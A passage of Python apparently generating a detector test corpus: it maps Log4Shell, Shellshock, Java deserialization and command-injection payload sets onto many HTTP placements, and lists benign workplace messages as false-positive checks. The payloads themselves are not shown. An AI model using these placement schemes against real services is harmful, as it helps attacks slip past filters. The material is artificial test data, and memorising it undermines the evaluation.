    ("rce", "shellshock-args", "args", ["q", "name"], SHELLSHOCK_ARGS),
    ("rce", "restricted-file-upload", "upload", ["avatar"], RESTRICTED_FILE_UPLOAD),
    ("rce", "rce-bypass-technique", "general", ["cmd", "host", "q"], RCE_BYPASS),
    ("rce", "unix-shell-alias", "general", ["cmd", "q", "name"], UNIX_SHELL_ALIAS),
    ("rce", "unix-shell-history", "general", ["cmd", "q", "name"], UNIX_SHELL_HISTORY),
    ("rce", "unix-short-commands", "general", ["host", "ip", "q"], UNIX_SHORT_COMMANDS),
    ("rce", "sqlite-system-command", "general", ["query", "q", "sql"], SQLITE_SYSTEM),
    ("rce", "mail-protocol-command", "general", ["email", "subject", "mailbox"], MAIL_PROTOCOL),
    ("java", "java-class-rce", "general", ["data", "q", "expr"], JAVA_CLASS_RCE),
    ("java", "java-process-spawn", "xml", ["data"], JAVA_PROCESS_SPAWN),
    ("java", "java-serialization-rce", "general", ["data", "payload", "q"], JAVA_SERIALIZATION_RCE),
    ("java", "java-suspicious-class", "general", ["data", "q", "class"], JAVA_SUSPICIOUS_CLASS),
    ("java", "java-magic-bytes", "wire", ["data", "state"], JAVA_MAGIC_BYTES),
    ("java", "java-magic-bytes-base64", "general", ["data", "state", "viewstate"], JAVA_MAGIC_BASE64),
    ("java", "java-serialization-gadget", "general", ["data", "payload", "q"], JAVA_SERIALIZATION_GADGET),
    ("java", "java-suspicious-method", "general", ["data", "q", "expr"], JAVA_SUSPICIOUS_METHOD),
    ("java", "log4shell", "general", ["q", "name", "username"], LOG4SHELL),
    ("java", "java-class-loading", "pair", [], JAVA_CLASS_LOADING),
    ("java", "java-script-upload", "jsp", ["file"], JAVA_SCRIPT_UPLOAD),
]

# Each cycle alternates our routes and regression-suite placements, so two consecutive picks give one of each.
CYCLES: dict[str, list[str]] = {
    "general": ["query", "rs-query", "form", "rs-form", "json", "rs-json", "header:User-Agent", "rs-raw-body",
                "cookie", "rs-header:X-Custom-Header", "xml", "rs-header:User-Agent", "header:Referer",
                "rs-cookie", "param-name", "rs-xml", "multipart-field", "rs-header:Referer", "json-uescape",
                "rs-query", "path", "rs-form"],
    "lfi": ["query", "rs-query", "form", "rs-form", "path", "rs-json", "json", "rs-raw-body", "header:Referer",
            "rs-header:X-Custom-Header", "cookie", "rs-xml", "xml-entity", "rs-cookie", "param-name",
            "rs-header:User-Agent", "json-uescape", "rs-query", "multipart-field", "rs-form"],
    "restricted": ["path-raw", "rs-path", "query", "rs-query", "form", "rs-path", "json", "rs-form"],
    "headers": ["header:User-Agent", "rs-header:Referer", "header:Referer", "rs-header:X-Custom-Header",
                "header:X-Api-Version", "rs-header:User-Agent", "cookie", "rs-cookie"],
    "shellshock": ["header:User-Agent", "rs-header:User-Agent", "header:Referer", "rs-header:X-Custom-Header",
                   "header:Cookie", "rs-header:Referer", "header:X-Api-Version", "rs-header:Cookie"],
    "args": ["query", "rs-query", "param-name", "rs-param-name", "form", "rs-form", "multipart-filename",
             "rs-multipart-filename", "json", "rs-json"],
    "upload": ["multipart-filename", "rs-multipart-filename", "header:X-Filename", "rs-header:X-File-Name",
               "header:X-File-Name", "rs-header:X_Filename"],
    "jsp": ["multipart-filename", "rs-multipart-filename", "header:X-File-Name", "rs-header:X-Filename"],
    "xml": ["xml-doc", "rs-xml-doc", "json", "rs-raw-body", "form", "rs-form"],
    "wire": ["query", "rs-query", "form", "rs-raw-body", "param-name", "rs-form", "cookie", "rs-param-name",
             "json", "rs-cookie"],
    "pair": ["query", "rs-query", "form", "rs-form", "json", "rs-json", "multipart-field", "rs-raw-body"],
}

RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
BOUNDARY = "----WebKitFormBoundary45fTw9ZqHkL3xYvA"
HEADER_NAMES = {"header:User-Agent": "User-Agent", "header:Referer": "Referer", "header:X-Api-Version":
                "X-Api-Version", "header:X-Filename": "X-Filename", "header:X-File-Name": "X-File-Name",
                "header:Cookie": "Cookie", "rs-header:User-Agent": "User-Agent", "rs-header:Referer": "Referer",
                "rs-header:X-Custom-Header": "X-Custom-Header", "rs-header:X-File-Name": "X-File-Name",
                "rs-header:X-Filename": "X-Filename", "rs-header:X_Filename": "X_Filename",
                "rs-header:Cookie": "Cookie"}
WIRE_SAFE = "%/?:@!$'()*,;=-._~[]"
COOKIE_SAFE = "!#$&'()*+-./:<=>?@[]^_`{|}~"


def _header_ok(p: str) -> bool:
    return all(" " <= c <= "~" for c in p)


def _enc(p: str, name: bool = False) -> str:
    """A query or form value (or name): a wire form as it is (only what would break the request is escaped), any
    other payload fully percent-encoded."""
    if isinstance(p, W):
        return urllib.parse.quote(p, safe=WIRE_SAFE.replace("=", "") if name else WIRE_SAFE)
    return urllib.parse.quote(p, safe="")


def _cookie_value(p: str) -> str:
    if isinstance(p, W):
        return urllib.parse.quote(p, safe=WIRE_SAFE.replace(";", "").replace(",", ""))
    return urllib.parse.quote(p, safe=COOKIE_SAFE)


def _uescape(p: str) -> str:
    return "".join(c if c.isascii() and c.isalnum() else f"\\u{ord(c):04x}" for c in p)


def _xml_text(p: str) -> str:
    return p.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _xml_refs(p: str) -> str:
    return "".join(c if c.isascii() and c.isalnum() else f"&#x{ord(c):x};" for c in p)


def _headers(extra: dict[str, str], ctype: str | None = None) -> dict[str, str]:
    h = {"User-Agent": UA, "Accept": "*/*"}
    if ctype:
        h["Content-Type"] = ctype
    h.update(extra)
    return h


def _multipart(fields: list[tuple[str, str]], file: tuple[str, str, str] | None = None) -> str:
    parts = [f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n" for k, v in fields]
    if file:
        field, filename, content = file
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{filename}\""
                     f"\r\nContent-Type: application/octet-stream\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _req(method: str, uri: str, body: str = "", headers: dict[str, str] | None = None) -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body, "headers": headers or _headers({})}


def _eligible(place: str, p: str) -> bool:
    if place.startswith(("header:", "rs-header:")) and not _header_ok(p):
        return False
    if "multipart" in place and ("\r" in p or "\n" in p or "\"" in p):
        return False
    return not (place == "xml-entity" and "\x00" in p)


def _place(place: str, name: str, p: str, n: int, sub: str) -> dict[str, Any]:
    """The request that carries payload p at `place`; `name` is the parameter name, n picks the rs path."""
    rs_path = RS_PATHS[n % len(RS_PATHS)]
    rs_name = RS_NAMES[n % len(RS_NAMES)]
    upload_body = _JSP if sub == "java-script-upload" else "GIF89a\n"
    if place == "query":
        return _get(f"/api/users?{name}={_enc(p)}&page=1")
    if place == "rs-query":
        return _get(f"{rs_path}?{rs_name}={_enc(p)}")
    if place == "form":
        return _req("POST", "/admin/users/search", f"csrf_token=t0k3n&{name}={_enc(p)}",
                    _headers({"Accept": "text/html"}, "application/x-www-form-urlencoded"))
    if place == "rs-form":
        return _req("POST", rs_path, f"{rs_name}={_enc(p)}", _headers({}, "application/x-www-form-urlencoded"))
    if place == "rs-raw-body":
        return _req("POST", rs_path, p if isinstance(p, W) else p.replace("\r", "").replace("\n", " "),
                    _headers({}, "application/x-www-form-urlencoded"))
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: p})
    if place == "rs-json":
        return _req("POST", rs_path, json.dumps({rs_name: p}, ensure_ascii=False), _headers({}, "application/json"))
    if place == "json-uescape":
        body = "{\"email\": \"a@example.org\", \"" + name + "\": \"" + _uescape(p) + "\"}"
        return _req("POST", "/api/users", body, _headers({"Accept": "application/json"}, "application/json"))
    if place == "xml":
        body = f"<?xml version=\"1.0\"?><user><email>a@example.org</email><{name}>{_xml_text(p)}</{name}></user>"
        return _req("POST", "/api/users", body, _headers({}, "application/xml"))
    if place == "xml-entity":
        body = f"<?xml version=\"1.0\"?><user><{name}>{_xml_refs(p)}</{name}></user>"
        return _req("POST", "/api/users", body, _headers({}, "application/xml"))
    if place == "rs-xml":
        body = f"<?xml version=\"1.0\"?><root><{rs_name}>{_xml_text(p)}</{rs_name}></root>"
        return _req("POST", rs_path, body, _headers({}, "text/xml"))
    if place == "xml-doc":
        return _req("POST", "/api/users", p, _headers({}, "application/xml"))
    if place == "rs-xml-doc":
        return _req("POST", rs_path, p, _headers({}, "application/xml"))
    if place == "cookie":
        return _req("GET", "/api/users?page=1", "",
                    _headers({"Cookie": f"session=abc123; {name}={_cookie_value(p)}"}))
    if place == "rs-cookie":
        return _req("GET", rs_path, "", _headers({"Cookie": f"{rs_name}={_cookie_value(p)}"}))
    if place == "param-name":
        return _get(f"/api/users?{_enc(p, name=True)}=1&page=1")
    if place == "rs-param-name":
        return _get(f"{rs_path}?{_enc(p, name=True)}=1")
    if place == "path":
        return _get("/api/users/" + (_enc(p) if isinstance(p, W) else urllib.parse.quote(p, safe="")))
    if place == "path-raw":
        return _get("/admin" + urllib.parse.quote(p, safe="/%" if isinstance(p, W) else "/"))
    if place == "rs-path":
        prefix = "" if n % 2 else "/app"
        return _get(prefix + urllib.parse.quote(p, safe="/%" if isinstance(p, W) else "/"))
    if place == "multipart-field":
        return _req("POST", "/admin/users/search", _multipart([("csrf_token", "t0k3n"), (name, p)]),
                    _headers({"Accept": "text/html"}, f"multipart/form-data; boundary={BOUNDARY}"))
    if place == "multipart-filename":
        return _req("POST", "/api/users/42/avatar", _multipart([("note", "avatar")], ("avatar", p, upload_body)),
                    _headers({}, f"multipart/form-data; boundary={BOUNDARY}"))
    if place == "rs-multipart-filename":
        return _req("POST", rs_path, _multipart([], ("file", p, upload_body)),
                    _headers({}, f"multipart/form-data; boundary={BOUNDARY}"))
    header = HEADER_NAMES[place]
    if place.startswith("header:"):
        uri = "/api/users/42/avatar" if header in ("X-Filename", "X-File-Name") else "/api/users?page=1"
        method = "PUT" if header in ("X-Filename", "X-File-Name") else "GET"
        return _req(method, uri, upload_body if method == "PUT" else "",
                    _headers({header: p}, "application/octet-stream" if method == "PUT" else None))
    if header in ("X-Filename", "X-File-Name", "X_Filename"):
        return _req("POST", rs_path, upload_body, _headers({header: p}, "application/octet-stream"))
    return _req("GET", rs_path, "", _headers({header: p}))


def _place_pair(place: str, pair: str, n: int) -> dict[str, Any]:
    """A name=value payload (a vulnerable or class-loading parameter name with its value) at `place`."""
    key, _, value = pair.partition("=")
    rs_path = RS_PATHS[n % len(RS_PATHS)]
    if isinstance(pair, W):
        q = _enc(W(key), name=True) + "=" + _enc(W(value))
    else:
        q = urllib.parse.quote(key, safe="") + "=" + urllib.parse.quote(value, safe="")
    form = _headers({}, "application/x-www-form-urlencoded")
    if place == "query":
        return _get(f"/api/users?page=1&{q}")
    if place == "rs-query":
        return _get(f"{rs_path}?{q}")
    if place == "form":
        return _req("POST", "/admin/users/search", f"csrf_token=t0k3n&{q}", form)
    if place == "rs-form":
        return _req("POST", rs_path, q, form)
    if place == "rs-raw-body":
        return _req("POST", rs_path, pair, form)
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", key: value})
    if place == "rs-json":
        return _req("POST", rs_path, json.dumps({key: value}), _headers({}, "application/json"))
    return _req("POST", "/admin/users/search", _multipart([("csrf_token", "t0k3n"), (key, value)]),
                _headers({"Accept": "text/html"}, f"multipart/form-data; boundary={BOUNDARY}"))


def _placements(cycle: list[str], i: int, p: str) -> list[str]:
    """Two or three places for the i-th payload, from the cycle at a rotating start, skipping ineligible ones."""
    want = 3 if i % 3 == 0 else 2
    start = (i * 3) % len(cycle)
    if want == 3 and start % 2 != (i // 3) % 2:   # every other triple has two regression-suite places
        start = (start + 1) % len(cycle)
    out: list[str] = []
    for k in range(len(cycle)):
        place = cycle[(start + k) % len(cycle)]
        if place not in out and _eligible(place, p):
            out.append(place)
        if len(out) == want:
            break
    return out


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for family, sub, cycle_key, names, payloads in SETS:
        cycle = CYCLES[cycle_key]
        for i, p in enumerate(payloads):
            for k, place in enumerate(_placements(cycle, i, p)):
                n += 1
                if cycle_key == "pair":
                    rec = _place_pair(place, p, n)
                else:
                    rec = _place(place, names[(i + k) % len(names)], p, n, sub)
                yield {**rec, "id": f"{NAME}-{family}-{n:04d}", "category": family, "sub": sub,
                       "placement": place, "payload": str(p)}


# ------------------------------------------------------------------------------------------------- benign
# Slack messages and bios: people at work using the same words innocently.
CHAT_TEXTS = [
    "my cat walked across the keyboard and sent half a message, sorry",
    "can someone cat the deploy log and paste the last error? I'm on my phone",
    "what's your employee id? HR needs it for the badge",
    "the id field on the invoice is the PO number, not the customer number",
    "ls shows nothing in the shared drive folder, did someone move the files?",
    "reset my passwd on the build box, thanks IT!",
    "the passwd file format is documented in man 5 passwd if you're curious",
    "I'll ping you when the release is tagged",
    "ping me after lunch, I'm in back-to-back meetings",
    "whoami? just the new guy on the platform team, hi all :wave:",
    "running uname -a on the new runners says kernel 6.8",
    "the etc folder in the repo has the nginx snippets",
    "we keep /etc/hosts overrides out of the base image now",
    "the .env file is gitignored, copy .env.example and fill it in",
    "please don't commit your .env again :sweat_smile:",
    "added a .htaccess rule on the old marketing site for the redirect",
    "the IIS site uses web.config for the rewrite rules",
    "our wp-config.php moved to the secrets manager last sprint",
    ".git/config has the old remote, run git remote set-url",
    "the .DS_Store files are back in the repo, mac users please check your global gitignore",
    "the Java service needs the newer Runtime, we're on 17 now",
    "ProcessBuilder in the CLI tool spawns git, that's expected",
    "java.lang.String is immutable, that's why the builder helps",
    "the stack trace points at java.io.FileOutputStream in the exporter",
    "we removed commons-collections 3.2.1 from the classpath last year",
    "Spring's ClassLoader leak is fixed by the restart, ticket closed",
    "log4j is pinned at 2.17.2; jndi lookups are off",
    "the serialization format switched from Java serialization to protobuf",
    "our base64 session blobs are JSON, not Java objects",
    "PowerShell 7 is installed on the Windows runners now",
    "use Get-ChildItem instead of dir if you want objects",
    "Invoke-WebRequest is slow on 5.1, use pwsh",
    "Start-Process with -Wait keeps the window open",
    "for each region, if the quota is low, open a ticket",
    "if exist the old file, the installer skips it",
    "for /f loops in batch files make my eyes hurt",
    "the bash script uses set -euo pipefail now",
    "shell history on the jump host is kept for 90 days per policy",
    "added an alias ll='ls -la' to the team dotfiles",
    "!! saves me so much typing after forgetting sudo",
    "the sqlite .dump output is the easiest backup for the tiny tool",
    ".schema in sqlite shows the table definitions",
    "the SMTP relay rejects MAIL FROM without SPF, please fix the DNS record",
    "IMAP sync in Outlook is stuck on INBOX again",
    "POP3 is deprecated on the mail server from next month",
    "curl -I the endpoint and check the cache headers",
    "wget mirrored the docs site nicely, it's on the NAS",
    "the nc health check against port 5432 passes",
    "python3 -m venv .venv then pip install -r requirements.txt",
    "perl one-liners in the legacy cron jobs need a rewrite",
    "the ruby gem for pdf export is slow",
    "cmd.exe opens with the wrong code page on the build agent",
    "net use drive mapping fails after the VPN reconnects",
    "ipconfig /flushdns fixed my DNS problem, thanks",
    "tasklist showed three instances of the updater",
    "systeminfo says the laptop has 16 GB, IT says 32",
    "certutil is what we use to inspect the certificate chain on Windows",
    "reg query against the policy key shows the proxy setting",
    "wmic is deprecated, use Get-CimInstance",
    "the regsvr32 step in the installer needs admin",
    "schtasks runs the nightly sync at 02:00",
    "the rundll32 popup was the printer driver",
    "traveling to Paris ../ back on Monday",
    "the path is ../docs/setup.md relative to the README",
    "see docs/../README.md, the link works on GitHub",
    "Copy the file to C:\\Users\\Public\\Documents please",
    "the win.ini file on the kiosk has the printer port",
    "our boot.ini days are long gone thankfully",
    "the proc filesystem shows 12 cores on the worker",
    "ssh keys go in ~/.ssh, never in the repo",
    "the bash_history on the old box had someone's notes",
    "the access.log rotated at midnight, check the .1 file",
    "my.cnf tuning: bump innodb_buffer_pool_size",
    "the URL http://192.168.1.10/ is the printer's admin page",
    "dashboard is at http://10.0.0.5:3000 while on VPN",
    "the include=all flag on the report API returns every column",
    "page=2 of the search results has the older tickets",
    "template=invoice is the default for customers in the EU",
    "file=report.pdf parameter on the download link expires after a day",
    "does anyone know if the URL needs a trailing ? for the tracking pixel",
    "the partner portal lives at https://partner.example.net/portal",
    "copy the link from https://www.example.org/press, it has the logo",
    "I'm out Friday; for questions ask Dana or if urgent page the on-call",
    "if the build is red, check the cache; for flaky tests, retry once",
    "Shell Canada invoice came through, forwarding to finance",
    "the restaurant on Bash Street closes at 9",
    "Java Coffee House order is in, pick up at 10",
    "Kat is the new designer, say hi",
    "Dir. of Engineering sync moved to Thursday",
    "ps. the cake is in the kitchen",
    "w/e works for me, Tuesday or Wednesday",
    "df -h shows the disk at 91%, cleaning up old images",
    "the vi vs emacs debate is over, we use VS Code",
    "su-chef at the cafeteria made pasta today",
    "dd-mm-yyyy is the format the bank expects",
    "ip address of the new printer is on the sticker",
    "the sc meeting (steering committee) is rescheduled",
    "the alias for the team mailbox is platform@example.com",
    "history of the project is on the wiki, page 'Origins'",
    "the cc list for the newsletter is too long",
    "Running the 10k on Sunday, wish me luck",
    "echo chamber in the retro today, let's mix up the groups",
    "sleep schedule is ruined after the launch week",
    "kill the old branches after merging please",
    "find the slides in the drive under Q3",
    "tail of the queue is about 300 messages",
    "head count for the offsite is 42",
    "sort the spreadsheet by region, then by date",
    "the uniq constraint on email caught the duplicate signups",
    "I chmod'ed the script and it runs now",
    "chown issues on the NFS mount are back",
    "the mail from HR says open enrollment ends Friday",
    "telnet is blocked on the guest wifi, use ssh",
    "the base64 encoded image is too large for the email",
    "exec summary is ready for the board",
    "system design interview tomorrow at 2",
    "the eval period for the new tool ends next week",
    "the runtime of the nightly job went from 40 to 12 minutes",
    "I'll process the refunds tomorrow morning",
    "the process builder in Salesforce needs an update",
    "the class on Kubernetes starts next Monday",
    "the object store bucket is in eu-west-1",
    "reflection: what went well this sprint?",
    "the invoker in the Lambda console shows the error",
    "the transformer model is slow on CPU, use the GPU box",
    "a closure in the JavaScript handler captured the stale value",
    "the factory pattern feels like overkill here",
    "the Java user group meets at 6, pizza provided",
    "() => {} is an empty arrow function, fine for the default prop",
    "function() { return 1; } works too but is longer",
    "the IF function in Excel needs the quotes around text",
    "FOR loop over the rows in VBA is fine for 1000 rows",
    "the upload of web.config to the docs repo was intentional, it's an example",
    "I renamed the file to .htaccess.txt so the CMS accepts it",
    "can someone review my PR that touches config.yml",
    "parameters.yml is the Symfony config from the old app",
    "the jsp pages in the legacy app are being rewritten in React",
]

SEARCHES = [
    "cat food delivery", "cat toys", "employee id lookup", "id card renewal", "passwd reset",
    "how to reset password", "ping pong table", "whoami podcast", "uname meaning", "etc",
    "hosts file windows", ".env example", "htaccess redirect", "web.config rewrite", "wp-config location",
    "git config global user", "java runtime download", "ProcessBuilder example", "java.lang.String format",
    "commons collections upgrade", "log4j version", "java serialization alternatives", "base64 decode online",
    "powershell get-childitem filter", "invoke-webrequest proxy", "for loop bash", "if else batch file",
    "bash alias permanent", "shell history size", "sqlite dump", "smtp relay settings", "imap outlook",
    "pop3 gmail", "curl post json", "wget recursive", "netcat port check", "python venv", "perl regex",
    "ruby on rails", "cmd change directory", "net use map drive", "ipconfig release renew",
    "tasklist filter", "systeminfo uptime", "certutil hash file", "reg query example", "wmic replacement",
    "schtasks create daily", "relative path ../", "C:\\Users\\Public", "win.ini printer", "boot.ini",
    "proc cpuinfo", "ssh key generate", "access log format", "mysql my.cnf", "include all columns",
    "page 2", "invoice template", "report.pdf", "Shell gas station", "Bash Street", "Java coffee", "Kat",
    "dir of engineering", "df command", "vi editor", "su chef", "dd mm yyyy", "ip address printer",
    "sc meeting notes", "team alias", "project history", "cc list", "echo dot", "sleep tracker",
    "kill switch", "find my phone", "tail latency", "head count", "sort by date", "uniq constraint",
    "chmod 755", "chown recursive", "mail merge", "telnet client", "exec summary template",
    "system requirements", "eval license", "runtime error", "process refund", "class schedule",
    "object storage pricing", "reflection questions retro", "transformer model", "closure javascript",
    "factory pattern", "java user group", "arrow function", "excel if function", "vba for loop",
    "upload config file", "symfony parameters.yml", "jsp to react", "O'Neil", "Smith & Sons",
    "100% cotton", "C# tutorial", "a+b", "what is 2^10", "email@example.com", "tea; coffee",
    "rock & roll", "black|white", "50% off", "(555) 123-4567", "top 10 (2024)", "it's fine",
    "\"exact phrase\"", "why is the sky blue?", "$100 gift card", "user's guide", "12:30 pm",
]

NAMES = [
    "Catherine 'Cat' O'Neil", "Ida Hassan", "Ping Wang", "Kat Dirksen", "Curtis Wegener", "Shelly Bashford",
    "Java Rahman", "Perla Ruby", "Sue Chen", "Wim de Jong", "Echo Park", "Tailor Head", "Sonny Kill",
    "Eva Luo", "Dirk Netsch", "Iris Cmd", "Ali Alias", "Hestia History", "Mailin Smtp", "Anna-Lena Müller",
    "José Ramírez", "Zoë D'Arcy", "Nguyễn Văn An", "Søren Kierkegaard", "李小龍", "Renée O'Connor-Smith",
    "Dr. Ping Li, PhD", "Mary-Kate (Kat) Olsen", "Ted Runtime", "Pat Classen",
]

ADDRESSES = [
    "10 Bash Street, Dundee DD1 9QJ", "42 Java Road, London E1 6AN", "7 Shell Lane, Houston TX 77002",
    "1 Process Way, Suite 100, Austin TX 78701", "55 Runtime Ave, Apt 3B, Brooklyn NY 11201",
    "Kat Street 12, 1011 AB Amsterdam", "Rue de la Paix 8, 75002 Paris", "221B Baker Street, London",
    "PO Box 123, Cat Island, Bahamas", "3/14 Etc Road, Sydney NSW 2000", "c/o Ping Holdings, 9 Hill Rd",
    "Unit 5, 100 System Drive, Toronto ON", "Via Roma 1, 00100 Roma", "Am Markt 3, 10115 Berlin",
    "1-2-3 Shibuya, Tokyo 150-0002", "500 Class Blvd, Denver CO 80202", "17 Alias Court, Dublin 2",
    "8 History Lane, Boston MA 02108", "12 Mail Street, Edinburgh EH1 1AA", "33 Curl Avenue, Leeds LS1 4AP",
]

DOC_URLS = [
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/Runtime.html",
    "https://docs.oracle.com/javase/8/docs/api/java/io/ObjectInputStream.html",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-expression",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-childitem",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/if",
    "https://learn.microsoft.com/en-us/iis/configuration/system.webserver/rewrite",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://man7.org/linux/man-pages/man1/cat.1.html",
    "https://www.gnu.org/software/bash/manual/bash.html#Shell-Expansions",
    "https://www.gnu.org/software/bash/manual/html_node/Aliases.html",
    "https://git-scm.com/docs/git-config",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://developer.wordpress.org/apis/wp-config-php/",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://commons.apache.org/proper/commons-collections/",
    "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://en.wikipedia.org/wiki/Directory_traversal_attack",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://curl.se/docs/manpage.html",
    "https://www.gnu.org/software/wget/manual/wget.html",
    "https://nodejs.org/api/child_process.html",
    "https://docs.python.org/3/library/subprocess.html",
    "https://github.com/acme/tools/blob/main/scripts/install.sh",
    "https://github.com/acme/site/blob/main/.htaccess",
    "https://github.com/acme/app/blob/main/.env.example",
    "https://github.com/acme/app/tree/main/src/main/java/com/acme/process",
    "https://example.com/downloads/setup.exe?version=2.1",
    "https://cdn.example.org/files/report.pdf?",
    "https://www.example.co.uk/search?q=cat+food&page=2",
    "https://maps.example.com/?q=10+Bash+Street",
    "http://192.0.2.10/status",
    "https://203.0.113.5:8443/",
    "https://partner.example.net/portal?ref=slack",
]

PROSE = [
    "The cat sat on the mat; then it ran away & hid under the bed.",
    "Please update my id and address: 10 Bash Street | Dundee",
    "Our runtime environment is Java 17 and Python 3.12.",
    "If you see an error, for example a timeout, retry later.",
    "For questions, if any, contact support (support@example.com).",
    "Invoice #1024 for the Shell account (net 30) is attached.",
    "We use PowerShell scripts for the Windows builds and bash for Linux.",
    "The config.yml and parameters.yml files are described in the README.",
    "Upload your avatar as a .png or .jpg, max 2 MB.",
    "Please see the docs at ../guide/index.html for details.",
    "The system process took 3 hours; we'll look at it Monday.",
    "Echo Park office: ring the bell, then take the lift to 3.",
    "The history class and the java class both start at 9.",
    "Ping and Kat will be at the offsite; Dir. Ops joins later.",
    "The mail server (SMTP) and IMAP settings are in the handbook.",
    "Do not share your .env or web.config files in tickets.",
    "alias: team-platform; history: since 2019; shell: zsh",
    "The serialization library handles base64 and hex input.",
    "Search for 'cat /etc' in the runbook to find the config section.",
    "Contact: Java Rahman, 42 Java Road, London",
]

UPLOAD_NAMES = [
    "report.pdf", "holiday photo.jpg", "avatar.png", "Q3 results (final).xlsx", "notes.txt", "resume_2024.docx",
    "team-offsite.jpeg", "logo@2x.png", "contract-signed.pdf", "screenshot 2024-06-01 at 10.42.png",
    "htaccess-guide.pdf", "web-config-notes.txt", "java-cheatsheet.pdf", "powershell-intro.pptx",
    "cat.gif", "passwd-policy.pdf", "shell-scripting-101.pdf", "config-example.txt", "résumé.pdf",
    "data.csv", "archive.zip", "diagram.svg", "budget_v2.ods", "readme.md", "index.html",
]

BROWSER_UAS = [
    UA,
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile "
    "Safari/537.36",
    "curl/8.5.0",
    "Wget/1.21.4",
    "python-requests/2.32.3",
    "PowerShell/7.4.2",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.22631; en-US) PowerShell/7.4.2",
    "Java/17.0.11",
    "Apache-HttpClient/4.5.14 (Java/17.0.11)",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17628; Pro)",
    "Dalvik/2.1.0 (Linux; U; Android 14; SM-S918B Build/UP1A.231005.007)",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
]

REFERERS = [
    "https://www.google.com/",
    "https://duckduckgo.com/?q=java+runtime+exec",
    "https://www.bing.com/search?q=powershell+invoke-webrequest",
    "https://stackoverflow.com/questions/1410741/want-to-invoke-a-linux-shell-command-from-java",
    "https://app.example.com/admin/users?page=2",
    "https://app.example.com/docs/../guide/index.html",
    "https://github.com/acme/app/blob/main/.env.example",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://en.wikipedia.org/wiki/Cat_(Unix)",
    "https://www.example.org/search?q=cat%20food&sort=price",
    "https://news.ycombinator.com/item?id=38000000",
    "https://t.co/AbCdEf123",
    "https://slack.com/",
    "http://192.0.2.10/dashboard",
    "https://mail.example.com/#inbox",
    "https://www.reddit.com/r/PowerShell/",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
    "https://www.example.com/?utm_source=newsletter&utm_medium=email",
    "https://app.example.com/me/settings",
]


def _search(q: str) -> dict[str, Any]:
    return _get(_query("/api/users", [("q", q), ("page", "1")]))


def _upload(filename: str) -> dict[str, Any]:
    body = _multipart([("note", "my file")], ("avatar", filename, "hello world\n"))
    return _req("POST", "/api/users/42/avatar", body, _headers({}, f"multipart/form-data; boundary={BOUNDARY}"))


def slash_command(text: str, n: int, epoch: int = 1719000000) -> dict[str, Any]:
    """A slash command carrying `text` (the replayer signs it)."""
    body = urllib.parse.urlencode([
        ("token", "verification-token"), ("team_id", "T061EG9R6"), ("team_domain", "acme"),
        ("channel_id", "C0123456789"), ("channel_name", "general"), ("user_id", "U012345678"),
        ("user_name", "ann"), ("command", "/note"), ("text", text),
        ("response_url", f"https://hooks.slack.com/commands/T061EG9R6/{n}/abcdef"),
        ("trigger_id", f"{n}.1234567890.abcdef0123456789")])
    return _req("POST", "/slack/commands", body,
                {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)",
                 "Content-Type": "application/x-www-form-urlencoded", "X-Slack-Request-Timestamp": str(epoch),
                 "X-Slack-Signature": "v0=" + "0" * 64})


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT_TEXTS, NAME)
    for text in CHAT_TEXTS:
        n += 1
        yield {**slash_command(text, n), "id": f"{NAME}-command-{n:04d}", "category": "benign", "placement": "form"}
    for q in SEARCHES:
        n += 1
